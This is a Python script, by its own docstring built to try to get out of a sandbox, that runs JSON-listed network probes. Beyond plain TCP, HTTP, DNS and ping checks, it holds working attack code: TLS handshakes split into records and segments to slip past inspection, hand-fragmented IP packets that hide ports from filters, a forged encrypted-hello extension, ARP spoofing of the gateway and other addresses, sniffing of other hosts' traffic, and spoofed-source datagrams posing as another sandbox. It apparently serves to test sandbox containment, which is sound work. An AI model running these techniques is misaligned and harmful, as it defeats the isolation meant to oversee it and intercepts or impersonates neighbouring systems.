"""Tries to get out of a sandbox. Reads attempts in JSON and prints what came of each."""

import json
import os
import socket
import ssl
import struct
import sys

LIMIT = 4


def dial(address: str, port: int) -> socket.socket:
    return socket.create_connection((address, port), LIMIT)


def read_all(stream) -> str:
    data = b""
    while b"}" not in data and b"\n" not in data[-2:]:
        more = stream.recv(4096)
        if not more:
            break
        data += more
    if not data:
        raise ConnectionError("closed without data")
    return data.decode("latin-1")


def tcp(address, port, text="", wait=True):
    with dial(address, port) as stream:
        stream.sendall(text.encode("latin-1"))
        return read_all(stream) if wait else "connected"


def http(address, host, port=80, path="/"):
    return tcp(address, port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n")


class Cut:
    """Sends the first bytes in pieces, each a segment of its own."""

    def __init__(self, stream, size):
        self.stream, self.size, self.left = stream, size, 600

    def sendall(self, data):
        while data and self.left > 0:
            self.stream.sendall(data[: self.size])
            data, self.left = data[self.size :], self.left - self.size
        self.stream.sendall(data)


def tls(address, sni, host=None, piece=0, records=0):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=sni)
    with dial(address, 443) as stream:
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        first = True

        def flush():
            nonlocal first
            data = outgoing.read()
            if first and records and data:
                body, data = data[5:], b""
                for at in range(0, len(body), records):
                    part = body[at : at + records]
                    data += b"\x16\x03\x01" + struct.pack(">H", len(part)) + part
            first = first and not data
            Cut(stream, piece).sendall(data) if piece else stream.sendall(data)

        def step(action):
            while True:
                try:
                    result = action()
                    flush()
                    return result
                except ssl.SSLWantReadError:
                    flush()
                    data = stream.recv(65536)
                    if not data:
                        raise ConnectionError("closed without data") from None
                    incoming.write(data)

        step(session.do_handshake)
        head = f"GET / HTTP/1.1\r\nHost: {host or sni}\r\n\r\n".encode()
        step(lambda: session.write(head))
        return step(lambda: session.read(65536)).decode("latin-1")


def ech(address, sni):
    """The handshake of a client that encrypts the name it means, with another outside."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()[9:]
    at = 34 + 1 + hello[34]
    at += 2 + struct.unpack(">H", hello[at : at + 2])[0]
    at += 1 + hello[at]
    inner = b"\0\0\1\0\1\7" + b"\0\x20" + os.urandom(32) + b"\0\x90" + os.urandom(144)
    more = struct.pack(">HH", 0xFE0D, len(inner)) + inner
    extensions = hello[at + 2 :] + more
    body = hello[:at] + struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + struct.pack(">I", len(body))[1:] + body
    with dial(address, 443) as stream:
        stream.sendall(b"\x16\3\1" + struct.pack(">H", len(message)) + message)
        reply = stream.recv(5)
    if not reply:
        raise ConnectionError("closed without data")
    return "handshake" if reply[0] == 0x16 else f"record {reply[0]}"


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def udp(address, port, text="ping"):
    with socket.socket(family(address), socket.SOCK_DGRAM) as stream:
        stream.settimeout(2)
        stream.connect((address, port))
        stream.send(text.encode())
        return stream.recv(4096).decode("latin-1")


def query(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    question = labels + b"\0" + struct.pack(">HH", kind, 1)
    return os.urandom(2) + struct.pack(">HHHHH", 0x0100, 1, 0, 0, 0) + question


def dns(server, name, kind=1, over="udp"):
    """The answer's code and the number of records in it."""
    message = query(name, kind)
    if over == "udp":
        with socket.socket(family(server), socket.SOCK_DGRAM) as stream:
            stream.settimeout(3)
            stream.connect((server, 53))
            stream.send(message)
            answer = stream.recv(4096)
    else:
        with dial(server, 53) as stream:
            stream.sendall(struct.pack(">H", len(message)) + message)
            answer = stream.recv(4096)[2:]
            if not answer:
                raise ConnectionError("closed without data")
    return f"code {answer[3] & 15} records {struct.unpack('>H', answer[6:8])[0]}"


def icmp(address):
    body = b"\x08\0\0\0\0\1\0\1" + b"x" * 8
    total = sum(struct.unpack(">8H", body))
    total = (total & 0xFFFF) + (total >> 16)
    body = body[:2] + struct.pack(">H", ~total & 0xFFFF) + body[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as stream:
        stream.settimeout(2)
        stream.sendto(body, (address, 0))
        while True:
            data, peer = stream.recvfrom(4096)
            if data[20] == 0 and peer[0] == address:
                return "pong"
            if data[20] == 3:
                raise ConnectionError("unreachable")


def icmp6(address):
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as stream:
        stream.settimeout(2)
        link = socket.if_nametoindex(gateway()[0])
        stream.sendto(b"\x80\0\0\0\0\1\0\1", (address, 0, 0, link))
        while True:
            data, peer = stream.recvfrom(4096)
            if data[0] == 129:
                return f"pong of {peer[0]}"


def fragments(address, text):
    """A TCP segment cut into IP fragments by hand, so that its ports are not in all."""
    head = struct.pack(">HHIIBBHHH", 5555, 80, 1, 0, 0x50, 2, 1024, 0, 0)
    body = head + text.encode()
    source = os.environ.get("FROM") or socket.gethostbyname(socket.gethostname())
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as stream:
        for at in range(0, len(body), 16):
            part, more = body[at : at + 16], 0x2000 if at + 16 < len(body) else 0
            ends = socket.inet_aton(source), socket.inet_aton(address)
            packet = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 0, 9, more | at // 8, 64, 6, 0, *ends)
            stream.sendto(packet + part, (address, 0))
    return "sent"


def gateway():
    for line in open("/proc/net/route").read().splitlines()[1:]:
        link, target, address = line.split()[:3]
        if target == "00000000":
            return link, socket.inet_ntoa(struct.pack("<I", int(address, 16)))
    raise OSError("no gateway")


def arp(*claimed):
    """Claims addresses, and that of the gateway, for this sandbox, on the wire."""
    link, address = gateway()
    own = bytes.fromhex(open(f"/sys/class/net/{link}/address").read().strip().replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as stream:
        stream.bind((link, 0))
        for one in (address, *claimed):
            ip = socket.inet_aton(one)
            for operation, target in ((1, ip), (2, ip), (2, socket.inet_aton(address))):
                packet = struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation)
                packet += own + ip + b"\xff" * 6 + target
                stream.send(b"\xff" * 6 + own + b"\x08\x06" + packet)
    return "sent"


def sniff(seconds, *addresses):
    """Packets that came from or to addresses which are not this sandbox's."""
    import time

    link, _ = gateway()
    wanted, end, seen = {socket.inet_aton(one) for one in addresses}, time.time() + seconds, 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as stream:
        stream.bind((link, 0x0800))
        stream.settimeout(0.2)
        while time.time() < end:
            try:
                data = stream.recv(2048)
            except TimeoutError:
                continue
            seen += data[26:30] in wanted or data[30:34] in wanted
    return seen


def raw(address, port):
    """A datagram with the sender of another sandbox, made by hand."""
    payload = b"spoofed"
    head = struct.pack(">HHHH", 1234, port, 8 + len(payload), 0)
    source, target = socket.inet_aton("100.64.77.77"), socket.inet_aton(address)
    packet = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 0, 7, 0, 64, 17, 0, source, target)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as stream:
        stream.sendto(packet + head + payload, (address, 0))
        return "sent"


def main():
    actions = {name: value for name, value in globals().items() if callable(value)}
    for action, *args in json.load(sys.stdin):
        try:
            print(json.dumps(["ok", str(actions[action](*args))]), flush=True)
        except (OSError, EOFError) as error:
            print(json.dumps(["refused", f"{type(error).__name__}: {error}"]), flush=True)


main()
